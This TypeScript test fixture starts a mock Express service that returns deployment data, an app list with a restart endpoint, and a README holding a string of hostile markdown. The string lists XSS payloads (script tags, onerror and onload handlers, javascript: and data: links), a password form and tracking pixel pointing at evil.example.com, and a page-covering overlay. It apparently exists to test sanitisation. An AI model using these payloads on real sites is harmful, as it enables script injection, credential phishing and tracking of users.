import express from 'express';
import { createServer } from 'node:http';
import { close, listen } from './startFaulty';

/** Everything by which markdown has ever run code, left the portal, or covered it. */
export const HOSTILE = `# Notes

<script>window.harmed = 'script'</script>
<img src="x" onerror="window.harmed = 'onerror'">
<iframe src="javascript:parent.harmed='iframe'"></iframe>
<svg onload="window.harmed='svg'"><style>body{display:none}</style></svg>
<form action="https://evil.example.com"><input name="password"></form>
[run](javascript:window.harmed='link') [data](data:text/html,<script>1</script>) [other](//evil.example.com)
![tracker](https://evil.example.com/pixel.png)
<div style="position:fixed;inset:0;background:red">cover</div>
[x](https://example.com "onmouseover=window.harmed='title'")
`;

const DEPLOYMENT = {
  name: 'checkout-api',
  replicas: 3,
  spec: {
    strategy: { type: 'RollingUpdate', rollingUpdate: { maxSurge: '25%', maxUnavailable: 0 } },
    template: { labels: { app: 'checkout', tier: 'backend' }, containers: [{ name: 'api', image: 'registry.example.com/checkout:2.4.1', ports: [8080, 9090] }, { name: 'proxy', image: 'envoy:1.31', ports: [15001] }] },
  },
  conditions: [{ type: 'Available', status: 'True', lastUpdateTime: '2026-11-20T10:00:00Z' }, { type: 'Progressing', status: 'False', lastUpdateTime: '2026-11-21T11:30:00Z' }],
  notes: null,
  label: '',
};

export type Records = {
  url: string;
  /** Which rows were restarted. */
  restarted: string[];
  close: () => Promise<void>;
};

/** A service with one nested object, prose that means no good, and a few things to restart. */
export async function startRecords(): Promise<Records> {
  const restarted: string[] = [];
  const app = express();
  app.get('/deployment', (_req, res) => void res.json(DEPLOYMENT));
  app.get('/readme', (_req, res) => void res.json({ text: HOSTILE }));
  app.get('/apps', (_req, res) => void res.json(['checkout', 'search', 'payments'].map(name => ({ id: name, name, team: `team-${name}`, state: 'Running' }))));
  app.post('/apps/:id/restart', (req, res) => {
    restarted.push(req.params.id);
    res.status(202).json({});
  });
  const server = createServer(app);
  const port = await listen(server);
  return { url: `http://localhost:${port}`, restarted, close: () => close(server) };
}
